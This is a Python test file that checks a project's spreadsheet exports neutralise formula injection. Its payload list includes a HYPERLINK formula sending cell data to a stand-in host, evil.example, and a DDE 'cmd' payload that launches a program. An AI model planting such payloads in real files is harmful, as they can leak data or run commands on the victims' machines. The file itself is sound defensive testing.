"""Exports never hand a spreadsheet a live formula made from user text."""

from __future__ import annotations

import csv
import datetime as dt
import shutil
import subprocess

import openpyxl
import pytest

from rpdesk.domain.vocabulary import Epic
from rpdesk.errors import UserError
from rpdesk.exports import neutralise, write_csv, write_table, write_xlsx

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
COLUMNS = ("text", "number", "date")


def _rows():
    return [(t, -5, dt.date(2026, 9, 1)) for t in NASTY] + [("plain text", 1.5, None)]


@pytest.mark.parametrize("text", NASTY)
def test_dangerous_text_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


def test_safe_values_pass_through():
    assert neutralise("Graffiti - underpass") == "Graffiti - underpass"
    assert neutralise(-5) == -5
    assert neutralise(None) is None
    assert neutralise(Epic.PREVENTION) == "prevention"


def test_csv_cells_are_neutralised_and_numbers_kept(tmp_path):
    path = tmp_path / "out.csv"
    write_csv(path, COLUMNS, _rows())
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == list(COLUMNS)
    assert [r[0] for r in rows[1:-1]] == ["'" + t for t in NASTY]
    assert rows[1][1:] == ["-5", "2026-09-01"]
    assert rows[-1] == ["plain text", "1.5", ""]


def test_xlsx_has_no_formulas_only_text(tmp_path):
    path = tmp_path / "out.xlsx"
    write_xlsx(path, ("=header", *COLUMNS[1:]), _rows(), sheet="Return: 2026/09")
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet.title == "Return  2026 09"
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["A1"].value == "'=header"
    # XML turns a carriage return into a line feed when read back; the apostrophe is what matters
    assert [sheet.cell(row=i + 2, column=1).value for i in range(len(NASTY))] == [
        "'" + t.replace("\r", "\n") for t in NASTY
    ]
    assert sheet["B2"].value == -5 and sheet["C2"].value.date() == dt.date(2026, 9, 1)


@pytest.mark.skipif(shutil.which("libreoffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_computes_nothing_from_user_text(tmp_path):
    path = tmp_path / "out.xlsx"
    write_xlsx(path, COLUMNS, [("=1+1", 1, None), ("+2+2", 2, None)])
    subprocess.run(
        ["libreoffice", "--headless", "--convert-to", "csv", "--outdir", str(tmp_path), str(path)],
        check=True,
        capture_output=True,
        timeout=120,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
    )
    text = (tmp_path / "out.csv").read_text(encoding="utf-8")
    assert "'=1+1" in text and "'+2+2" in text
    assert "\n2," not in text and "\n4," not in text  # no formula was evaluated


def test_write_table_picks_the_format_by_suffix(tmp_path):
    write_table(tmp_path / "a.CSV", COLUMNS, _rows())
    write_table(tmp_path / "a.xlsx", COLUMNS, _rows())
    assert (tmp_path / "a.CSV").read_bytes().startswith(b"\xef\xbb\xbftext,")
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").active.max_row == len(NASTY) + 2
    with pytest.raises(UserError, match=r"\.csv or \.xlsx"):
        write_table(tmp_path / "a.pdf", COLUMNS, _rows())


def test_a_failed_export_leaves_no_half_file(tmp_path):
    path = tmp_path / "out.csv"

    def rows():
        yield ("ok", 1, None)
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError):
        write_csv(path, COLUMNS, rows())
    assert list(tmp_path.iterdir()) == []
